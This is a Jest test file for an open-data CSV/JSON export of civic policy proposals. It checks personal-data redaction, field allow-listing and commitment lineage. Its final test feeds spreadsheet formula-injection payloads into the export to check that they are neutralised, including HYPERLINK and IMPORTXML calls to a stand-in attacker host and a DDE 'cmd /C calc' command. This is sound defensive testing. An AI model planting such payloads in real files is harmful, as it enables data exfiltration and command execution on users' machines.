import { describe, expect, it } from '@jest/globals';
import { SAMPLE_PROPOSALS } from '../../../../infra/demo/sample-round';
import { consolidateRound } from '../../../../shared/consolidation/consolidate-round';
import { formSpec } from '../../../../shared/definitions/form-spec';
import { DEFAULT_ROUND } from '../../../../shared/definitions/round';
import { planIngest } from '../../../../shared/ingest/ingest';
import { proposalFromAnswers } from '../../../../shared/ingest/proposal';
import { validateProposal } from '../../../../shared/ingest/validation';
import {
  type ExportableProposal,
  OPEN_DATA_CSV_COLUMNS,
  openDataCsv,
  openDataExport,
  redactPersonal,
} from '../../../../shared/open-data/open-data';
import { parseCsv } from '../../../../shared/platform/csv';

const REASON = 'Usulan serupa digabung agar satu komitmen lebih kuat dan terukur.';
const GENERATED = '2022-09-01T00:00:00.000Z';
const spec = formSpec(DEFAULT_ROUND);

/** The sample round as stored records after review: 6 merged into their target, the rest accepted. */
function storedSample(): ExportableProposal[] {
  const stored = SAMPLE_PROPOSALS.map((s) => {
    const p = proposalFromAnswers(spec, s.answers, {
      roundId: DEFAULT_ROUND.id,
      responseId: s.responseId,
      submittedAt: s.submittedAt,
      source: 'form',
      editUrl: `https://docs.google.com/forms/d/e/x/viewform?edit2=secret-${s.responseId}`,
    });
    return planIngest(undefined, p, validateProposal(p, spec, DEFAULT_ROUND), '2022-08-02T00:00:00.000Z')
      .record;
  });
  return stored.map((p, i) => {
    const into = SAMPLE_PROPOSALS[i]?.mergeInto;
    return into === undefined
      ? { ...p, status: 'accepted', reasonedResponse: REASON }
      : { ...p, status: 'merged', mergeTarget: stored[into]?.id ?? null, reasonedResponse: REASON };
  });
}

function sampleExport() {
  const proposals = storedSample();
  const commitments = consolidateRound(proposals, { actor: 'sekretariat@oms.example' });
  return { proposals, commitments, data: openDataExport(proposals, commitments, GENERATED, DEFAULT_ROUND) };
}

describe('open-data export of the sample round', () => {
  const { proposals, commitments, data } = sampleExport();
  const json = JSON.stringify(data);
  const csv = openDataCsv(data);

  it('contains no email, phone, contact name, response id or edit link of any submitter', () => {
    expect(proposals).toHaveLength(22);
    for (const p of proposals) {
      for (const secret of [p.email, p.phone, p.contactName, p.responseId, p.editUrl ?? 'x-missing']) {
        expect(secret.length).toBeGreaterThan(5);
        expect(json).not.toContain(secret);
        expect(csv).not.toContain(secret);
      }
    }
    expect(json).not.toMatch(/@oms\.example|sekretariat|0812|Narahubung|edit2/);
    expect(csv).not.toMatch(/@oms\.example|sekretariat|0812|Narahubung|edit2/);
  });

  it('publishes only the allow-listed fields', () => {
    expect(Object.keys(data.proposals[0] ?? {}).sort()).toEqual(
      [
        'id',
        'roundId',
        'title',
        'workingGroup',
        'workingGroupName',
        'organisation',
        'leadAgency',
        'status',
        'reasonedResponse',
        'mergedInto',
        'commitmentIds',
        'submittedAt',
        'problem',
        'solution',
        'expectedResults',
        'ogpValues',
        'milestones',
        'sdgs',
        'budgetIdr',
        'irmCheck',
      ].sort(),
    );
    expect(Object.keys(data.proposals[0]?.milestones[0] ?? {}).sort()).toEqual(
      ['deliverable', 'end', 'expectedOutput', 'start'].sort(),
    );
    expect(Object.keys(data.commitments[0] ?? {}).sort()).toEqual(
      ['coAuthors', 'createdAt', 'id', 'irmCheck', 'sourceProposalIds', 'title', 'workingGroupIds'].sort(),
    );
  });

  it('carries the IRM pre-check of every proposal and commitment, in the JSON and as a CSV column', () => {
    // The sample's expected results name no figure or target: a hint on every proposal, never a decision.
    for (const p of data.proposals) {
      expect(p.irmCheck?.flags.map((f) => f.code)).toEqual(['unclear_results']);
      expect(p.status).not.toBe('rejected');
    }
    expect(data.commitments[0]?.irmCheck?.flags[0]?.reasons[0]?.en).toMatch(/not measurable/);
    const rows = parseCsv(openDataCsv(data));
    const col = rows[0]?.indexOf('irm_flags') ?? -1;
    expect(col).toBeGreaterThan(0);
    expect(rows[1]?.[col]).toBe('unclear_results');
  });

  it('keeps the public record: organisation, status, reasoned response, merge target and commitment lineage', () => {
    expect(data).toMatchObject({ generatedAt: GENERATED, round: { id: DEFAULT_ROUND.id } });
    expect(data.commitments).toHaveLength(16);
    const merged = data.proposals[16];
    const target = data.proposals[1];
    expect(merged).toMatchObject({
      status: 'merged',
      mergedInto: target?.id,
      reasonedResponse: REASON,
      organisation: proposals[16]?.organisation,
      workingGroupName: { id: 'Anti Korupsi & Anggaran', en: 'Anti-Corruption & Budget' },
    });
    expect(merged?.commitmentIds).toEqual(target?.commitmentIds);
    expect(merged?.milestones[0]).toEqual({
      deliverable: 'Standar data dan SOP keterbukaan disahkan',
      expectedOutput: 'Dokumen standar data',
      start: '2023-02-01',
      end: '2023-06-30',
    });
    const c = data.commitments.find((x) => x.id === target?.commitmentIds[0]);
    expect(c).toMatchObject({
      sourceProposalIds: [target?.id, merged?.id],
      coAuthors: commitments.find((x) => x.id === c?.id)?.coAuthors,
    });
  });

  it('writes one CSV row per proposal under a fixed header', () => {
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...OPEN_DATA_CSV_COLUMNS]);
    expect(rows).toHaveLength(23);
    const status = OPEN_DATA_CSV_COLUMNS.indexOf('status');
    expect(rows.slice(1).filter((r) => r[status] === 'merged')).toHaveLength(6);
    const milestones = rows[1]?.[OPEN_DATA_CSV_COLUMNS.indexOf('milestones')];
    expect(milestones).toBe(
      'Standar data dan SOP keterbukaan disahkan (2023-02-01 - 2023-06-30) | Portal data terbuka diluncurkan dan dipantau warga (2023-07-01 - 2023-12-15)',
    );
  });
});

describe('what the export withholds', () => {
  it('publishes a reasoned response only once the decision is final', () => {
    const [p] = storedSample();
    if (!p) throw new Error('sample');
    const draft = {
      ...p,
      status: 'in_review' as const,
      reasonedResponse: 'Draf internal: menunggu data K/L.',
    };
    const [out] = openDataExport([draft], [], GENERATED).proposals;
    expect(out).toMatchObject({
      status: 'in_review',
      reasonedResponse: '',
      mergedInto: null,
      commitmentIds: [],
    });
    expect(openDataExport([draft], [], GENERATED).round).toBeUndefined();
  });

  it('leaves out commitments whose merge was undone', () => {
    const { proposals, commitments } = sampleExport();
    const dissolved = commitments.map((c, i) => (i === 0 ? { ...c, dissolvedAt: GENERATED } : c));
    const data = openDataExport(proposals, dissolved, GENERATED);
    expect(data.commitments).toHaveLength(15);
    expect(data.proposals[0]?.commitmentIds).toEqual([]);
  });

  it('redacts email addresses and phone numbers typed into free text, and the submitter named in it', () => {
    const [p] = storedSample();
    if (!p) throw new Error('sample');
    const leaky = {
      ...p,
      problem: `Hubungi ${p.contactName} di budi.santoso@lsm.example atau +62 812-3456-7890 / 0813 1111 2222.`,
      solution: 'Anggaran Rp 150.000.000 pada 2023-02-01; narahubung: ani@contoh.or.id',
    };
    const out = openDataExport([leaky], [], GENERATED).proposals[0];
    expect(out?.problem).toBe(
      'Hubungi [disembunyikan / redacted] di [disembunyikan / redacted] atau [disembunyikan / redacted] / [disembunyikan / redacted].',
    );
    expect(out?.solution).toBe(
      'Anggaran Rp 150.000.000 pada 2023-02-01; narahubung: [disembunyikan / redacted]',
    );
  });

  it('redacts a personal detail only as a whole word, in any case', () => {
    expect(redactPersonal('Organisasi ANI dan Ani, bukan organisasian', ['Ani'])).toBe(
      'Organisasi [disembunyikan / redacted] dan [disembunyikan / redacted], bukan organisasian',
    );
    expect(redactPersonal('a.b (c) [d]?', ['(c)'])).toBe('a.b [disembunyikan / redacted] [d]?');
  });
});

describe('formula injection in the CSV', () => {
  it('neutralises every cell that a spreadsheet would run as a formula', () => {
    const [p] = storedSample();
    if (!p) throw new Error('sample');
    const hostile = {
      ...p,
      title: '=HYPERLINK("http://evil.example/?"&A1,"klik")',
      organisation: "@SUM(1+1)*cmd|' /C calc'!A0",
      leadAgency: '+Kementerian',
      problem: '-1+1',
      solution: '\t=1+1',
      expectedResults: '\r=1+1',
      status: 'rejected' as const,
      reasonedResponse: '=IMPORTXML("http://evil.example","//a") alasan panjang',
    };
    const rows = parseCsv(openDataCsv(openDataExport([hostile], [], GENERATED)));
    const row = rows[1] ?? [];
    const col = (name: (typeof OPEN_DATA_CSV_COLUMNS)[number]) => row[OPEN_DATA_CSV_COLUMNS.indexOf(name)];
    expect(col('title')).toBe(`'${hostile.title}`);
    expect(col('organisation')).toBe(`'${hostile.organisation}`);
    expect(col('lead_agency')).toBe("'+Kementerian");
    expect(col('problem')).toBe("'-1+1");
    expect(col('reasoned_response')).toBe(`'${hostile.reasonedResponse}`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
